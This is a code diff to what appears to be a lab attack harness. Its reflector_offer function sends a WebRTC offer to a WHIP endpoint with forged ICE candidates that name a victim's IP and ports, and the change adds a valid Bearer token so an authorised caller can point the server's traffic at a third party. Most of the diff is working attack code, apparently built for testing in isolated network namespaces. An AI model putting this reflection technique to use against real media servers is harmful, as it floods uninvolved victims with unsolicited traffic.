@@ -277,7 +277,9 @@ def reflector_offer(target: Target, report: AttackReport, candidates: int = 50) 
     try:
         offer = in_netns(target.lab.client.netns, lambda: asyncio.run(_offer_sdp()))
         offer = _with_candidates(offer, [(sink.ip, p) for p in ports])
-        location = in_netns(target.lab.client.netns, lambda: _post(stack.whip_url(target.owner), offer))
+        # a caller the app let in (a valid offer token) who names a victim instead of itself
+        token = stack.whip_token(target.lab)
+        location = in_netns(target.lab.client.netns, lambda: _post(stack.whip_url(target.owner), offer, token))
         report.packets_sent, report.bytes_sent = 1, len(offer)
         time.sleep(3 * SETTLE_S + 1.0)        # the transceiver's checks and their retransmissions
         report.flows_created = len([f for f in _new_flows(before, target.flows())
@@ -332,9 +334,9 @@ def _with_candidates(sdp: str, targets: list[tuple[str, int]]) -> str:
     return "\r\n".join(lines[:at] + fake + ["a=end-of-candidates"] + lines[at:]) + "\r\n"
 
 
-def _post(url: str, sdp: str) -> str | None:
-    request = urllib.request.Request(url, data=sdp.encode(), method="POST",
-                                     headers={"Content-Type": "application/sdp"})
+def _post(url: str, sdp: str, token: str) -> str | None:
+    headers = {"Content-Type": "application/sdp", "Authorization": f"Bearer {token}"}
+    request = urllib.request.Request(url, data=sdp.encode(), method="POST", headers=headers)
     with urllib.request.urlopen(request, timeout=10) as resp:
         location = resp.headers.get("Location")
     return urllib.parse.urljoin(url, location) if location else None
